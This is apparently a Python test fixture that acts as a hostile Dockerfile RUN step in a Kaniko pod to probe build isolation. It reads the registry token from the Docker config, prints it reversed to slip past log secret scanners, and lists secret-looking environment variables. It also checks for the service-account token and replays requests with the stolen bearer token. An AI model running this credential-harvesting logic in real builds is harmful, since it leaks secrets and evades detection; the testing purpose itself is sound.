"""What a Dockerfile's RUN tries with all that it finds in its Pod (see `test_hostile_build`).

`asked.json` beside it names the requests; each attempt is a line of JSON with what it came to.
"""

import json
import os
import pathlib
import ssl
import sys
import urllib.error
import urllib.request

CONFIG = pathlib.Path("/kaniko/.docker/config.json")
ACCOUNT = pathlib.Path("/var/run/secrets/kubernetes.io/serviceaccount/token")


def ask(method, url, headers):
    lax = ssl.create_default_context()
    lax.check_hostname, lax.verify_mode = False, ssl.CERT_NONE
    body = b"" if method == "POST" else None
    request = urllib.request.Request(url, method=method, headers=headers, data=body)
    try:
        with urllib.request.urlopen(request, timeout=3, context=lax) as answer:
            return answer.status
    except urllib.error.HTTPError as error:
        return error.code
    except OSError as error:
        return type(error).__name__


def tell(what, got):
    sys.stdout.write(f"GOT {json.dumps({what: got})}\n")
    sys.stdout.flush()


here = pathlib.Path(__file__).parent
[(registry, entry)] = json.loads(CONFIG.read_text())["auths"].items()
token = entry.get("registrytoken", "")
tell("credentials", {registry: sorted(entry)})
tell("stolen", token[::-1])  # as a thief would who knows that logs are searched for secrets
tell("its environment", [name for name in os.environ if any(part in name for part in ("AWS", "KEY", "SECRET", "URL"))])
tell("a token of its account", ACCOUNT.exists())
for what, (method, url) in json.loads((here / "asked.json").read_text()).items():
    mine = f"http://{registry}/" in url
    tell(what, ask(method, url, {"Authorization": f"Bearer {token}"} if mine else {}))
